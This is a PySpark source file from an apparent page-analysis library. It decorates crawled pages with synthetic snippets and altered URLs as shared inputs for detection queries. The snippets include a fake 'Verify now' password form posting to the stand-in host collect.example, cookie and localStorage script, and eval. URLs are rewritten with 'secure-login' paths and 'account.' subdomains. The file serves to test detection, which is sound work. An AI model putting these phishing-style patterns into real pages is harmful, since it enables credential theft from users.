"""Inputs that the registered queries share, as DataFrames and as SQL."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from pagelattice.functions import urls
from pagelattice.tables import read_table as table


#: (condition, snippet): what is added to raw pages, which hold no forms, links or storage code.
SNIPPETS = (
    ("page_id % 2 = 0", '<form action="https://collect.example/post"><input type="password" name="pw"><input type="hidden" name="t"><button>Verify now</button></form>'),
    ("page_id % 3 = 0", '<link rel="icon" href="https://cdn.example/i.ico"><img class="logo" src="https://cdn.example/l.png">'),
    ("page_id % 5 = 0", '<script>document.cookie = "a=1"; localStorage.getItem("k");</script>'),
    ("page_id % 7 = 0", '<script>eval("1")</script>'),
    ("page_id % 4 = 1", '<a href="#">x</a><a href="">y</a><a href="javascript:void(0)">z</a>'),
)


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


_EXTRA = "concat(" + ", ".join(f"CASE WHEN {c} THEN {_quoted(s)} ELSE '' END" for c, s in SNIPPETS) + ")"
_HTML = f"CASE WHEN instr(html, '</body>') > 0 THEN replace(html, '</body>', concat({_EXTRA}, '</body>')) ELSE concat(html, {_EXTRA}) END"

DECORATED_SQL = f"""
decorated AS (
  SELECT page_id, {_HTML} AS html,
         CASE page_id % 3 WHEN 0 THEN url
              WHEN 1 THEN regexp_replace(url, '^([a-z]+://[^/]*)', '\\1/secure-login')
              ELSE regexp_replace(url, '^([a-z]+://)', '\\1account.') END AS url
  FROM pages)"""


def decorated_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """page_id, url, html of all pages, with snippets and altered URLs by page_id."""
    url = F.expr("CASE page_id % 3 WHEN 0 THEN url WHEN 1 THEN regexp_replace(url, '^([a-z]+://[^/]*)', '$1/secure-login') ELSE regexp_replace(url, '^([a-z]+://)', '$1account.') END")
    return table(spark, sf_dir, "pages").select("page_id", F.expr(_HTML).alias("html"), url.alias("url"))


def with_domain(pages: DataFrame) -> DataFrame:
    return pages.withColumn("domain", urls.page_domain(F.col("url")))


URL_SQL = r"""
parts AS (
  SELECT *, lower(regexp_extract(url, '^(?:([^:/?#]+):)?(?://([^/?#]*))?([^?#]*)(?:\?([^#]*))?(?:#(.*))?', 1)) AS scheme,
         regexp_extract(url, '^(?:([^:/?#]+):)?(?://([^/?#]*))?([^?#]*)(?:\?([^#]*))?(?:#(.*))?', 2) AS netloc,
         regexp_replace(regexp_extract(url, '^(?:([^:/?#]+):)?(?://([^/?#]*))?([^?#]*)(?:\?([^#]*))?(?:#(.*))?', 3), ';[^/]*$', '') AS path,
         regexp_extract(url, '^(?:([^:/?#]+):)?(?://([^/?#]*))?([^?#]*)(?:\?([^#]*))?(?:#(.*))?', 4) AS query
  FROM decorated),
named AS (
  SELECT *, split_part(netloc, ':', 1) AS d, coalesce(nullif(netloc, ''), split_part(path, '/', 1)) AS domain FROM parts)"""
